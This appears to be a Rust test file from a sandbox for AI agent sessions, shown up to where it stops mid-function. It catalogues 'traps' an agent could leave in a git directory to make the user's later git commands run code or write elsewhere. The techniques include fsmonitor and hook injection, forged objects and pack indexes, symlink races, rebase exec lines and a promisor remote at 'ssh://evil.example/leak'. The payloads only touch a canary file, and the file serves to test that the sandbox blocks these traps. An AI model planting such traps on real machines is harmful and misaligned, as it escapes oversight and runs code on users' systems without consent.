//! What the user's own git runs, contacts or writes outside, because of what a session left in a git directory.
//!
//! Each trap is laid twice: without a sandbox, where it must fire (otherwise it would show nothing), and inside, where the user's git
//! must do nothing of it afterwards.

use std::fs;

use crate::desk::{Desk, each_user, shown};

pub(crate) struct Trap {
    /// A finding's number, and what it is.
    pub(crate) sentence: &'static str,
    /// What the user has before, in a new repository with two commits.
    pub(crate) before: &'static str,
    /// What an agent does there.
    pub(crate) attack: &'static str,
    /// What the user does there afterwards.
    pub(crate) user: &'static str,
}

/// Hooks that the user has in the work tree.
const HUSKY: &str = "mkdir .husky; printf '#!/bin/sh\\nexit 0\\n' > .husky/pre-commit; chmod +x .husky/pre-commit
    git add .husky; git commit -qm hook; git config core.hooksPath .husky";
/// Takes the committed hook, and runs it.
const USES_HUSKY: &str = "rm .husky/pre-commit; git checkout -- .husky; git commit -q --allow-empty -m words";

/// Writes a hook of the agent's as a loose object without its name.
macro_rules! forged {
    () => {
        "printf '#!/bin/sh\\ntouch CANARY\\n' > hook; python3 -c 'import zlib
text = open(\"hook\", \"rb\").read()
open(\"object\", \"wb\").write(zlib.compress(b\"blob %d\\0\" % len(text) + text))'; chmod 444 object
"
    };
}

/// Writes a pack with that hook, and an index that gives it the id of the user's.
macro_rules! forged_pack {
    () => {
        "id=$(git rev-parse HEAD:.husky/pre-commit); git init -q p; evil=$(git -C p hash-object -w --stdin < hook)
(cd p; echo $evil | git pack-objects -q pack > /dev/null); idx=$(ls p/pack-*.idx); name=$(basename $idx .idx); cp p/$name.pack pack.pack
python3 -c 'import sys, hashlib
idx, old, new = sys.argv[1:]
data = open(idx, \"rb\").read().replace(bytes.fromhex(old), bytes.fromhex(new))
first = int(new[:2], 16)
data = data[:8] + b\"\".join((1 if at >= first else 0).to_bytes(4, \"big\") for at in range(256)) + data[8 + 1024:-20]
open(\"pack.idx\", \"wb\").write(data + hashlib.sha1(data).digest())' $idx $evil $id
"
    };
}

/// `CANARY` is a path outside of the project. The trap fires if it exists.
const TRAPS: &[Trap] = &[
    Trap {
        sentence: "a1: a directory called worktrees in a bare repository",
        before: "",
        attack: "git init -q --bare foo.git; git --git-dir=foo.git config extensions.worktreeConfig true
            mkdir -p foo.git/a/worktrees/x; echo ref: refs/heads/main > foo.git/a/worktrees/x/HEAD
            echo ../../.. > foo.git/a/worktrees/x/commondir; cp .git/index foo.git/a/worktrees/x/index
            printf '[core]\\n\\tbare = false\\n\\tfsmonitor = \"touch CANARY; false\"\\n' > foo.git/a/worktrees/x/config.worktree
            mkdir sub; echo \"gitdir: $PWD/foo.git/a/worktrees/x\" > sub/.git
            git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub",
        user: "git status; cd sub && git status",
    },
    Trap {
        sentence: "a1: the stealthy form, below the git directory itself",
        before: "",
        attack: "git config extensions.worktreeConfig true; mkdir -p .git/foo.git/worktrees/x .git/worktrees/x
            for at in .git/foo.git/worktrees/x .git/worktrees/x; do
                echo ref: refs/heads/main > $at/HEAD; echo ../.. > $at/commondir; cp .git/index $at/index
                printf '[core]\\n\\tfsmonitor = \"touch CANARY; false\"\\n' > $at/config.worktree
            done
            mkdir sub; echo \"gitdir: $PWD/.git/worktrees/x\" > sub/.git
            git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub",
        user: "git status; cd sub && git status",
    },
    Trap {
        sentence: "a2: a git directory in the home of the session",
        before: "",
        attack: "cd ~; git init -q g; git -C g config core.fsmonitor 'touch CANARY; false'; cd - > /dev/null
            home=$(awk -v home=$HOME '$5 == home { print $4 }' /proc/self/mountinfo | tail -1)
            mkdir sub; echo \"gitdir: ${home:-$HOME}/g/.git\" > sub/.git
            git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub",
        user: "git status; cd sub && git status",
    },
    Trap {
        sentence: "a5: an object that is missing is fetched from an address",
        before: "",
        attack: "git config remote.evil.url ssh://evil.example/leak; git config remote.evil.promisor true
            git config extensions.partialClone evil; git config core.repositoryformatversion 1
            git update-index --add --cacheinfo 100644,1234567812345678123456781234567812345678,missing",
        user: "export GIT_SSH_COMMAND='touch CANARY; false'; git status; git diff; git diff --cached; git checkout .",
    },
    Trap {
        sentence: "a5: a program of a remote serves what is missing",
        before: "",
        attack: "git config remote.evil.url .; git config remote.evil.promisor true
            git config remote.evil.uploadpack 'touch CANARY; git-upload-pack'
            git config extensions.partialClone evil; git config core.repositoryformatversion 1
            git update-index --add --cacheinfo 100644,1234567812345678123456781234567812345678,missing",
        user: "git status; git diff; git diff --cached; git checkout .",
    },
    Trap {
        sentence: "a5: where a branch is pushed to is an address",
        before: "",
        attack: "git config branch.main.pushRemote ssh://evil.example/leak; git config push.default current
            git config branch.main.remote ssh://evil.example/leak; git config branch.main.merge refs/heads/main",
        user: "export GIT_SSH_COMMAND='touch CANARY; false'; git push; git fetch; git pull",
    },
    Trap {
        sentence: "a9: the work tree is somewhere else",
        before: "mkdir CANARY.d",
        attack: "git config core.worktree CANARY.d
            git update-index --add --cacheinfo 100644,$(echo x | git hash-object -w --stdin),planted",
        user: "git checkout -f .; test ! -e CANARY.d/planted || touch CANARY",
    },
    Trap {
        sentence: "a10: a step of a rebase runs a command",
        before: "",
        attack: "GIT_SEQUENCE_EDITOR='sed -i s/^pick/edit/' git rebase -i HEAD~1
            echo 'exec touch CANARY' >> .git/rebase-merge/git-rebase-todo",
        user: "sleep 1; GIT_EDITOR=true git rebase --continue",
    },
    Trap {
        sentence: "a10: a step of a rebase runs a command, moved into place",
        before: "",
        attack: "GIT_SEQUENCE_EDITOR='sed -i s/^pick/edit/' git rebase -i HEAD~1
            echo 'exec touch CANARY' > todo; mv todo .git/rebase-merge/git-rebase-todo",
        user: "GIT_EDITOR=true git rebase --continue",
    },
    Trap {
        sentence: "j1: the message of a commit goes into the settings",
        before: "",
        attack: "rm -f .git/COMMIT_EDITMSG; ln -s config .git/COMMIT_EDITMSG
            printf '[core]\\n\\tfsmonitor = \"touch CANARY; false\"\\n' > .git/MERGE_MSG",
        user: "GIT_EDITOR=true git commit --allow-empty; git status",
    },
    Trap {
        sentence: "j1: the message of a commit goes to a file of the user",
        before: "",
        attack: "rm -f .git/COMMIT_EDITMSG; ln -s CANARY .git/COMMIT_EDITMSG",
        user: "git commit --allow-empty -m words",
    },
    Trap {
        sentence: "j1: a link that is moved in",
        before: "",
        attack: "ln -s CANARY link; mv -f link .git/COMMIT_EDITMSG; mkdir d; ln -s CANARY d/HEAD; mv d .git/logs2; mv .git/logs .git/logs3
            mv .git/logs2 .git/logs",
        user: "git commit --allow-empty -m words",
    },
    Trap {
        sentence: "j1: the log of HEAD",
        before: "",
        attack: "rm -f .git/logs/HEAD; ln -s CANARY .git/logs/HEAD",
        user: "git commit --allow-empty -m words",
    },
    Trap {
        sentence: "j1: what was fetched",
        before: "",
        attack: "rm -f .git/FETCH_HEAD; ln -s CANARY .git/FETCH_HEAD",
        user: "git fetch .",
    },
    Trap {
        sentence: "j2: a directory that git empties is a link",
        before: "mkdir CANARY.d; touch CANARY.d/precious",
        attack: "ln -s CANARY.d .git/sequencer",
        user: "git cherry-pick --quit; git revert --quit; git reset -q --hard; test -e CANARY.d/precious || touch CANARY",
    },
    Trap {
        sentence: "j3: the shell's prompt expands the number of a step",
        before: "",
        attack: "mkdir -p .git/rebase-merge; echo refs/heads/main > .git/rebase-merge/head-name; echo 2 > .git/rebase-merge/end
            echo '$(touch CANARY)' > .git/rebase-merge/msgnum
            echo '$(touch CANARY)' > number; mv number .git/rebase-merge/msgnum",
        // What __git_ps1 does where it sets PS1 itself.
        user: "sleep 1; read -r step < .git/rebase-merge/msgnum; read -r total < .git/rebase-merge/end
            PS1=\"(main|REBASE $step/$total) \"; echo \"${PS1@P}\"",
    },
    Trap {
        sentence: "j4: a submodule of a linked work tree",
        before: "git init -q other; git -C other commit -q --allow-empty -m x
            git -c protocol.file.allow=always submodule --quiet add ./other module; git commit -qm module
            git worktree add -q linked -b linked; cd linked; git -c protocol.file.allow=always submodule --quiet update --init",
        attack: "git config -f .git/worktrees/linked/modules/module/config core.fsmonitor 'touch CANARY; false'
            printf '#!/bin/sh\\ntouch CANARY\\n' > hook; chmod +x hook; mkdir -p .git/worktrees/linked/modules/module/hooks
            mv hook .git/worktrees/linked/modules/module/hooks/post-checkout",
        user: "cd linked; git status; git -C module status; git -C module checkout -q -b new",
    },
    Trap {
        sentence: "j5: a strategy that is a path",
        before: "git switch -qc side; echo side > file; git commit -qam side; git switch -q main; echo main > file; git commit -qam main",
        attack: "git cherry-pick side; mkdir -p git-merge-x .git/sequencer; printf '#!/bin/sh\\ntouch CANARY\\n' > e.sh; chmod +x e.sh
            printf 'pick %s side\\npick %s side\\n' $(git rev-parse --short side) $(git rev-parse --short side) > .git/sequencer/todo
            git rev-parse HEAD > .git/sequencer/head; printf '[options]\\n\\tstrategy = x/../e.sh\\n' > .git/sequencer/opts
            printf '[options]\\n\\tstrategy = x/../e.sh\\n' > opts; mv opts .git/sequencer/opts",
        user: "sleep 1; git add file; export GIT_EDITOR=true; git cherry-pick --continue; git cherry-pick --skip",
    },
    Trap {
        sentence: "hooks that come with a directory",
        before: "",
        attack: "mkdir -p new/.git; cp -r .git new/dir; rm -rf new/.git; mkdir -p new/dir/hooks
            printf '#!/bin/sh\\ntouch CANARY\\n' > new/dir/hooks/post-checkout; chmod +x new/dir/hooks/post-checkout; mv new/dir new/.git",
        user: "cd new && git checkout -f -q -b other",
    },
    Trap {
        sentence: "a second name of the settings",
        before: "",
        attack: "rm -f .git/COMMIT_EDITMSG; ln .git/config .git/COMMIT_EDITMSG
            printf '[core]\\n\\tfsmonitor = \"touch CANARY; false\"\\n' > .git/MERGE_MSG",
        user: "GIT_EDITOR=true git commit --allow-empty; git status",
    },
    Trap {
        sentence: "attributes and filters of one's own",
        before: "",
        attack: "git config filter.evil.clean 'touch CANARY; cat'; echo '* filter=evil' > .gitattributes; touch file",
        user: "git add -A; git status; git diff",
    },
    Trap {
        sentence: "settings that are included",
        before: "",
        attack: "printf '[core]\\n\\tfsmonitor = \"touch CANARY; false\"\\n' > more; git config include.path ../more
            git config includeIf.gitdir:/.path ../more",
        user: "git status",
    },
    Trap {
        sentence: "a4: hooks in a directory whose name has a blank",
        before: "git config core.hooksPath 'my hooks'",
        attack: "mkdir -p 'my hooks'; printf '#!/bin/sh\\ntouch CANARY\\n' > 'my hooks/pre-commit'; chmod +x 'my hooks/pre-commit'",
        user: "git commit --allow-empty -m words",
    },
    Trap {
        sentence: "a4: hooks by a line that is continued, in an included file",
        before: "printf '[core]\\n\\thooksPath = tools/\\\\\\nhooks\\n' > .git/more; git config include.path more; mkdir tools",
        attack: "mkdir -p tools/hooks; printf '#!/bin/sh\\ntouch CANARY\\n' > tools/hooks/pre-commit; chmod +x tools/hooks/pre-commit",
        user: "git commit --allow-empty -m words",
    },
    Trap {
        sentence: "a4: hooks by a path from the home, in config.worktree",
        before: "git config extensions.worktreeConfig true
            git config --worktree core.hooksPath \"~/$(realpath --relative-to=$HOME $PWD)/tools\"",
        attack: "mkdir -p tools; printf '#!/bin/sh\\ntouch CANARY\\n' > tools/pre-commit; chmod +x tools/pre-commit",
        user: "git commit --allow-empty -m words",
    },
    Trap {
        sentence: "a4: the argument of a shell is the filter",
        before: "mkdir tools; echo cat > tools/x.sh; git config filter.x.clean 'sh tools/x.sh'; echo '* filter=x' > .git/info/attributes",
        attack: "echo 'touch CANARY; cat' > tools/x.sh; mv tools t; mkdir -p tools; echo 'touch CANARY; cat' > tools/x.sh",
        user: "touch file; git add -A",
    },
    Trap {
        sentence: "a4: the argument of a shell converts to text",
        before: "echo 'cat $1' > x.sh; git config diff.x.textconv 'sh x.sh'; echo '* diff=x' > .git/info/attributes",
        attack: "echo 'touch CANARY; cat $1' > x.sh; echo 'touch CANARY; cat $1' > y; mv y x.sh; echo three > file",
        user: "git diff",
    },
    Trap {
        sentence: "a4: the argument of a shell is the monitor of a linked work tree",
        before: "git worktree add -q linked -b linked; git config core.fsmonitor 'sh tools/x.sh'",
        attack: "mkdir -p linked/tools; echo 'touch CANARY; false' > linked/tools/x.sh",
        user: "cd linked && git status",
    },
    Trap {
        sentence: "a4: the program of a submodule",
        before: "git init -q other; git -C other commit -q --allow-empty -m x
            git -c protocol.file.allow=always submodule --quiet add ./other module; git commit -qm module
            git -C module config core.fsmonitor ./monitor",
        attack: "printf '#!/bin/sh\\ntouch CANARY\\n' > module/monitor; chmod +x module/monitor",
        user: "git -C module status",
    },
    Trap {
        sentence: "a8: an object of the user's is replaced by another",
        before: "mkdir .husky; printf '#!/bin/sh\\nexit 0\\n' > .husky/pre-commit; chmod +x .husky/pre-commit
            git add .husky; git commit -qm hook; git config core.hooksPath .husky",
        attack: "evil=$(printf '#!/bin/sh\\ntouch CANARY\\n' | git hash-object -w --stdin); old=$(git rev-parse HEAD:.husky/pre-commit)
            git replace $old $evil; mkdir -p .git/refs/replace; echo $evil > .git/refs/replace/$old
            echo \"$evil refs/replace/$old\" > packed; mv packed .git/packed-refs",
        user: "rm .husky/pre-commit; git checkout -- .husky; git commit -q --allow-empty -m words",
    },
    Trap {
        sentence: "a8: a loose object has other content than its name says",
        before: HUSKY,
        attack: concat!(forged!(), "id=$(git rev-parse HEAD:.husky/pre-commit); at=.git/objects/${id:0:2}/${id:2}; rm -f $at; mv object $at"),
        user: USES_HUSKY,
    },
    Trap {
        sentence: "a8: a second name of a loose object is written to",
        before: HUSKY,
        attack: concat!(forged!(), "id=$(git rev-parse HEAD:.husky/pre-commit); at=.git/objects/${id:0:2}/${id:2}
            for alias in alias .git/objects/pack/tmp_pack_1 .git/objects/${id:0:2}/tmp_obj_1; do
                mkdir -p .git/objects/pack; ln $at $alias; chmod u+w $alias; rm $at; cat object > $alias; mv $alias $at
            done"),
        user: USES_HUSKY,
    },
    Trap {
        sentence: "a8: a loose object is linked to its place and written to afterwards",
        before: HUSKY,
        attack: concat!(forged!(), "id=$(git rev-parse HEAD:.husky/pre-commit); at=.git/objects/${id:0:2}/${id:2}
            cp $at .git/objects/tmp_obj_1; rm -f $at; ln .git/objects/tmp_obj_1 $at || mv .git/objects/tmp_obj_1 $at
            chmod u+w .git/objects/tmp_obj_1; cat object > .git/objects/tmp_obj_1"),
        user: USES_HUSKY,
    },
    Trap {
        sentence: "a8: the index of a pack gives other content the id of the user's",
        before: HUSKY,
        attack: concat!(forged!(), forged_pack!(), "rm -f .git/objects/${id:0:2}/${id:2}; mkdir -p .git/objects/pack
            mv pack.pack .git/objects/pack/$name.pack; mv pack.idx .git/objects/pack/$name.idx"),
        user: USES_HUSKY,
    },
    Trap {
        sentence: "a8: a pack comes after an index that gives other content the id of the user's",
        before: HUSKY,
        attack: concat!(forged!(), forged_pack!(), "rm -f .git/objects/${id:0:2}/${id:2}; mkdir -p .git/objects/pack
            mv pack.idx .git/objects/pack/$name.idx; mv pack.pack .git/objects/pack/$name.pack"),
        user: USES_HUSKY,
    },
    Trap {
        sentence: "a1: settings of a repository made inside are written through /proc/self/fd",
        before: "",
        attack: "git init -q --bare gd; exec 5< gd/config
            printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tfsmonitor = \"touch CANARY; false\"\\n' > /proc/self/fd/5
            mkdir w; echo 'gitdir: ../gd' > w/.git
            c=$(git --git-dir=gd commit-tree -m x $(git --git-dir=gd mktree < /dev/null)); git --git-dir=gd update-ref refs/heads/main $c
            git update-index --add --cacheinfo 160000,$c,w",
        user: "git status; cd w && git status",
    },
    Trap {
        sentence: "j3: a number of a rebase is written through /proc/self/fd",
        before: "git switch -qc side; echo side > file; git commit -qam side; git switch -q -; echo other > file; git commit -qam other",
        attack: "git rebase side; exec 6< .git/rebase-merge/msgnum; echo '$(touch CANARY)' > /proc/self/fd/6",
        user: "eval \"n=\\\"$(cat .git/rebase-merge/msgnum)\\\"\"",
    },
    Trap {
        sentence: "a10: a list of a rebase gets a second name while it is put in place",
        before: "git switch -qc side; echo side > file; git commit -qam side; git switch -q -; echo other > file; git commit -qam other",
        attack: "git rebase side; echo solved > file; git add file
            python3 -c 'import os, threading, time
goal = \".git/rebase-merge/git-rebase-todo\"
for turn in range(5):
    open(\"src\", \"w\").write(\"# x\\n\" * 20000)
    def link():
        time.sleep(turn / 500)
        try: os.link(\"src\", \"alias%d\" % turn)
        except OSError: pass
    thread = threading.Thread(target=link); thread.start()
    try: os.rename(\"src\", goal)
    except OSError: pass
    thread.join()
    try: os.unlink(\"src\")
    except OSError: pass
    try: open(\"alias%d\" % turn, \"w\").write(\"exec touch CANARY\\n\")
    except OSError: pass
if not os.environ.get(\"RINGFENCE\"): open(goal, \"w\").write(\"exec touch CANARY\\n\")'",
        user: "GIT_EDITOR=true git rebase --continue",
    },
    Trap {
        sentence: "a8: an object of a repository made inside is linked to its place in the user's",
        before: HUSKY,
        attack: concat!(forged!(), "id=$(git rev-parse HEAD:.husky/pre-commit); d=${id:0:2}; git init -q n; mkdir -p n/.git/objects/$d
            mv object n/.git/objects/$d/${id:2}; rm -f .git/objects/$d/${id:2}; mkdir -p .git/objects/$d
            ln n/.git/objects/$d/${id:2} .git/objects/$d/${id:2}"),
        user: USES_HUSKY,
    },
    Trap {
        sentence: "a8: an object after the head was moved, as an ordinary checkout does",
        before: HUSKY,
        attack: concat!("git checkout -q -b z; git checkout -q -; ", forged!(), "id=$(git rev-parse HEAD:.husky/pre-commit)
            at=.git/objects/${id:0:2}/${id:2}; rm -f $at; mv object $at"),
        user: USES_HUSKY,
    },
    Trap {
        sentence: "a8: an object after the directory above became a git directory",
        before: HUSKY,
        attack: concat!(forged!(), "id=$(git rev-parse HEAD:.husky/pre-commit); at=.git/objects/${id:0:2}/${id:2}
            mkdir /tmp/away$$; mv * .husky /tmp/away$$; echo ref: refs/heads/main > HEAD; mkdir objects refs; rm -f $at; mv /tmp/away$$/object $at
            rm -r HEAD objects refs; mv /tmp/away$$/* /tmp/away$$/.husky ."),
        user: USES_HUSKY,
    },
    Trap {
        sentence: "a8: another pack by the name of one that an index of several lists",
        before: "mkdir .husky; printf '#!/bin/sh\\nexit 0\\n' > .husky/pre-commit; chmod +x .husky/pre-commit
            git add .husky; git commit -qm hook; git config core.hooksPath .husky; git repack -adq; git multi-pack-index write",
        attack: "id=$(git rev-parse HEAD:.husky/pre-commit); idx=$(ls .git/objects/pack/*.idx); pack=${idx%.idx}
            at=$(git show-index < $idx | grep $id | cut -d' ' -f1)
            for o in $(git show-index < $idx | cut -d' ' -f2 | grep -v $id); do git cat-file $(git cat-file -t $o) $o > o-$o; git cat-file -t $o > t-$o; done
            mv $idx i; mv $pack.pack p || exit 0; rm -f $pack.rev
            for o in o-*; do git hash-object -w -t $(cat t-${o#o-}) $o; done
            printf '#!/bin/sh\\ntouch CANARY\\n' > hook
            python3 -c 'import sys, hashlib, zlib, struct
at, pack = int(sys.argv[1]), sys.argv[2]
text = open(\"hook\", \"rb\").read()
size, head, byte = len(text), b\"\", (3 << 4) | (len(text) & 15)
size >>= 4
while size: head += bytes([byte | 128]); byte, size = size & 127, size >> 7
entry = head + bytes([byte]) + zlib.compress(text)
data = b\"PACK\" + struct.pack(\">II\", 2, 1); data += bytes(at - len(data)) + entry
name = hashlib.sha1(data).digest()
open(\"new.pack\", \"wb\").write(data + name)
id = hashlib.sha1(b\"blob %d\\0\" % len(text) + text).digest()
index = b\"\\xfftOc\" + struct.pack(\">I\", 2) + b\"\".join(struct.pack(\">I\", int(n >= id[0])) for n in range(256)) + id
index += struct.pack(\">I\", zlib.crc32(entry)) + struct.pack(\">I\", at) + name
open(\"new.idx\", \"wb\").write(index + hashlib.sha1(index).digest())' $at $pack
            mv new.pack $pack.pack; mv new.idx $idx; rm -f o-* t-*",
        user: USES_HUSKY,
    },
    Trap {
        sentence: "a8: an object while the directory is no git directory",
        before: HUSKY,
        attack: concat!(forged!(), "id=$(git rev-parse HEAD:.husky/pre-commit); at=.git/objects/${id:0:2}/${id:2}
            cp .git/HEAD h; mv .git/HEAD gone || rm .git/HEAD; rm -f $at; mv object $at; cp h .git/HEAD"),
        user: USES_HUSKY,
    },
    Trap {
        sentence: "a2: the repository of a linked work tree by way of a link",
        before: "",
        attack: "git init -q --bare G; mkdir -p ev/d ev/G/objects ev/G/refs G/worktrees/W suba; ln -s ev/d L
            printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tfsmonitor = touch CANARY; false\\n' > ev/G/config
            echo ref: refs/heads/main > G/worktrees/W/HEAD; echo ../../../L/../G > G/worktrees/W/commondir
            echo gitdir: ../G/worktrees/W > suba/.git",
        user: "cd suba && git status",
    },
    Trap {
        sentence: "a2: the repository of a linked work tree is exchanged for a directory that nothing judges",
        before: "",
        attack: "git init -q --bare G; mkdir -p G/worktrees/W sub; echo ref: refs/heads/main > G/worktrees/W/HEAD
            echo $PWD/G > G/worktrees/W/commondir; mv G H; mkdir -p G/objects G/refs
            printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tfsmonitor = touch CANARY; false\\n' > G/config
            echo gitdir: ../H/worktrees/W > sub/.git",
        user: "cd sub && git status",
    },
    Trap {
        sentence: "a2: the directories of linked work trees are moved into another directory",
        before: "",
        attack: "git init -q --bare G; mkdir -p G/worktrees/W sub; echo ref: refs/heads/main > G/worktrees/W/HEAD
            echo ../.. > G/worktrees/W/commondir; mkdir -p H/objects H/refs
            printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tfsmonitor = touch CANARY; false\\n' > H/config
            mv G/worktrees H/worktrees; echo gitdir: ../H/worktrees/W > sub/.git",
        user: "cd sub && git status",
    },
    Trap {
        sentence: "a2: a git directory in the home of the session, by way of a link and back",
        before: "",
        attack: "cd ~; rm -rf g4 d4; git init -q --bare g4; git -C g4 config core.bare false; mkdir d4
            git -C g4 config core.fsmonitor 'touch CANARY; false'; cd - > /dev/null
            home=$(awk -v home=$HOME '$5 == home { print $4 }' /proc/self/mountinfo | tail -1)
            git init -q --bare g4; mkdir sub; ln -s ${home:-$HOME}/d4 L; echo gitdir: ../L/../g4 > sub/.git",
        user: "cd sub && git status",
    },
    Trap {
        sentence: "a2: a directory on the way of a .git file becomes a link to the home of the session",
        before: "",
        attack: "cd ~; rm -rf d5; mkdir d5; git init -q --bare d5/g; git -C d5/g config core.bare false
            git -C d5/g config core.fsmonitor 'touch CANARY; false'; cd - > /dev/null
            home=$(awk -v home=$HOME '$5 == home { print $4 }' /proc/self/mountinfo | tail -1)
            mkdir d; git init -q --bare d/g; mkdir sub; echo gitdir: ../d/g > sub/.git; mv d e; ln -s ${home:-$HOME}/d5 d
            ln -s ${home:-$HOME}/d5 link; mv -T link d; mkdir z; ln -s ${home:-$HOME}/d5/g z/g; mv -T z d",
        user: "cd sub && git status",
    },
    Trap {
        sentence: "a2: a .git file is moved to where its path begins elsewhere",
        before: "",
        attack: "cd ~; rm -rf g6; git init -q --bare g6; git -C g6 config core.bare false
            git -C g6 config core.fsmonitor 'touch CANARY; false'; cd - > /dev/null
            home=$(awk -v home=$HOME '$5 == home { print $4 }' /proc/self/mountinfo | tail -1)
            rel=$(realpath -m --relative-to=$PWD ${home:-$HOME}); tail=$(echo $rel | sed 's,\\.\\./,,g'); deep=
            for up in $(echo $rel | grep -o '\\.\\./'); do deep=${deep}d/; done
            mkdir -p $tail ${deep}sub; git init -q --bare $tail/g6; echo gitdir: ../$rel/g6 > ${deep}sub/.git; mv ${deep}sub sub
            mkdir -p e; mv d/sub e; mv ${deep} e",
        user: "cd sub && git status",
    },
    Trap {
        sentence: "a9: the work tree by way of a link and back",
        before: "mkdir -p CANARY.d/side CANARY.d/sub",
        attack: "git init -q rep; (cd rep; echo x > planted; git add .; git commit -qm x; mv .git ../R); mkdir sub; echo gitdir: ../R > sub/.git
            ln -s CANARY.d/side K; (cd sub; git config core.worktree ../K/../sub)",
        user: "(cd sub; git checkout .); test ! -e CANARY.d/sub/planted || touch CANARY",
    },
    Trap {
        sentence: "a9: the work tree becomes a link",
        before: "mkdir -p CANARY.d",
        attack: "git init -q rep; (cd rep; echo x > planted; git add .; git commit -qm x; mv .git ../R); mkdir sub tree
            echo gitdir: ../R > sub/.git; cp sub/.git tree; (cd tree; git config core.worktree ../tree); rm -r tree; ln -s CANARY.d tree",
        user: "(cd sub; git checkout .); test ! -e CANARY.d/planted || touch CANARY",
    },
    Trap {
        sentence: "a9: the work tree of a submodule becomes a link",
        before: "mkdir -p CANARY.d; git init -q other; (cd other; echo x > planted; git add .; git commit -qm x)",
        attack: "mkdir d; git -c protocol.file.allow=always submodule --quiet add ./other d/m; mv d/m n; ln -s CANARY.d d/m
            rm -rf d; mkdir -p d/m; cp n/.git d/m; rm -r d; mkdir l; ln -s CANARY.d l/m; mv l d",
        user: "(cd .git/modules/d/m && git checkout .); test ! -e CANARY.d/planted || touch CANARY",
    },
    Trap {
        sentence: "a9: the work tree of a submodule that the user has becomes a link",
        before: "mkdir -p CANARY.d; git init -q other; (cd other; echo x > planted; git add .; git commit -qm x)
            mkdir d; git -c protocol.file.allow=always submodule --quiet add ./other d/m; git commit -qm m
            rm -r d/m d",
        attack: "ln -s CANARY.d m; mkdir d; mv m d; ln -s CANARY.d d/m",
        user: "(cd .git/modules/d/m && git checkout .); test ! -e CANARY.d/planted || touch CANARY",
    },
    Trap {
        sentence: "a9: the work tree of the user's own repository becomes a link",
        before: "mkdir -p CANARY.d",
        attack: "mkdir t; echo gitdir: ../.git > t/.git; git config core.worktree ../t; rm -r t; ln -s CANARY.d t; cp file planted
            git --work-tree=. add planted",
        user: "git checkout .; test ! -e CANARY.d/planted || touch CANARY",
    },
    Trap {
        sentence: "j7: a directory on the way to a linked work tree becomes a link",
        before: "mkdir -p CANARY.d; git init -q CANARY.d/r; git -C CANARY.d/r commit -q --allow-empty -m x
            git -C CANARY.d/r worktree add -q ../w",
        attack: "mkdir d; git worktree add -q d/w -b linked; mv d e; ln -s CANARY.d d",
        user: "git worktree repair; grep -q CANARY.d CANARY.d/w/.git || touch CANARY",
    },
    Trap {
        sentence: "j7: a directory on the way to the user's linked work tree becomes a link",
        before: "mkdir -p CANARY.d; git init -q CANARY.d/r; git -C CANARY.d/r commit -q --allow-empty -m x
            git -C CANARY.d/r worktree add -q ../w; mkdir d; git worktree add -q d/w -b linked; rm -r d",
        attack: "ln -s CANARY.d d",
        user: "git worktree repair; grep -q CANARY.d CANARY.d/w/.git || touch CANARY",
    },
    Trap {
        sentence: "git acts on the repository above one with an empty HEAD",
        before: "git init -q inner; git -C inner commit -q --allow-empty -m x",
        attack: ": > inner/.git/HEAD; : > empty; mv empty inner/.git/HEAD; (printf 'ref:'; printf '%0300d' 0 | tr 0 ' '; echo refs/heads/main) > long
            mv long inner/.git/HEAD",
        user: "cd inner; git rev-parse --show-toplevel | grep -q inner || touch CANARY",
    },
    Trap {
        sentence: "a5: a remote is a repository of the user that the session does not see",
        before: "git init -q CANARY.d; cd CANARY.d; echo secret > s; git add s; git commit -qm s; git branch -m hidden",
        attack: "git config remote.o.url CANARY.d; git config remote.o.url file://CANARY.d; git config remote.o.fetch '+refs/heads/*:refs/remotes/o/*'",
        user: "git fetch o; git rev-parse -q --verify o/hidden && touch CANARY",
    },
    Trap {
        sentence: "a5: a remote is a repository that the session does not see, by way of a link",
        before: "git init -q CANARY.d; cd CANARY.d; echo secret > s; git add s; git commit -qm s; git branch -m hidden",
        attack: "ln -s CANARY.d L; git config remote.o.url ./L; git config remote.o.url $PWD/L; git config remote.o.fetch '+refs/heads/*:refs/remotes/o/*'",
        user: "git fetch o; git rev-parse -q --verify o/hidden && touch CANARY",
    },
    Trap {
        sentence: "a5: a remote becomes a link to a repository that the session does not see",
        before: "git init -q CANARY.d; cd CANARY.d; echo secret > s; git add s; git commit -qm s; git branch -m hidden",
        attack: "mkdir x; git config remote.o.url ./x; rmdir x; ln -s CANARY.d x.git; ln -s CANARY.d x; ln -s CANARY.d y; mv -T y x; git config remote.o.fetch '+refs/heads/*:refs/remotes/o/*'",
        user: "git fetch o; git rev-parse -q --verify o/hidden && touch CANARY",
    },
    Trap {
        sentence: "a5: a remote becomes a file that names a git directory that the session does not see",
        before: "git init -q CANARY.d; cd CANARY.d; echo secret > s; git add s; git commit -qm s; git branch -m hidden",
        attack: "git config remote.o.url ./x; echo gitdir: CANARY.d/.git > x; echo gitdir: CANARY.d/.git > y; ln y x; mv y x; git config remote.o.fetch '+refs/heads/*:refs/remotes/o/*'",
        user: "git fetch o; git rev-parse -q --verify o/hidden && touch CANARY",
    },
    Trap {
        sentence: "a5: the user's push goes to a repository that the session does not write",
        before: "git init -q CANARY.d; cd CANARY.d; echo secret > s; git add s; git commit -qm s; git branch -m hidden",
        attack: "git config remote.o.url .; git config remote.o.pushurl CANARY.d; git config push.default current; git config remote.pushDefault o; git checkout -q -b feat",
        user: "git push; git -C CANARY.d rev-parse -q --verify feat && touch CANARY",
    },
    Trap {
        sentence: "a5: the order of settings is another one",
        before: "git config --add core.fsmonitor 'touch CANARY; false'; git config --add core.fsmonitor false",
        attack: "(grep -v fsmonitor .git/config; echo [core]; grep 'fsmonitor = false' .git/config; grep 'fsmonitor.*touch' .git/config) > c
            mv c .git/config",
        user: "git status",
    },
    Trap {
        sentence: "another directory of objects, and its address",
        before: "",
        attack: "mkdir -p o/info o/pack; echo CANARY.d > .git/objects/info/alternates; git config core.alternateRefsCommand 'touch CANARY; false'",
        user: "mkdir -p CANARY.d; git fetch -q .; git push -q . HEAD:refs/heads/pushed; git gc -q",
    },
];

fn script(part: &str, desk: &Desk, number: usize, name: &str) -> String {
    let canary = desk.home(&format!("canary-{name}-{number}"));
    let part = part.replace("CANARY", canary.to_str().unwrap());
    let place = format!("{name}{number}");
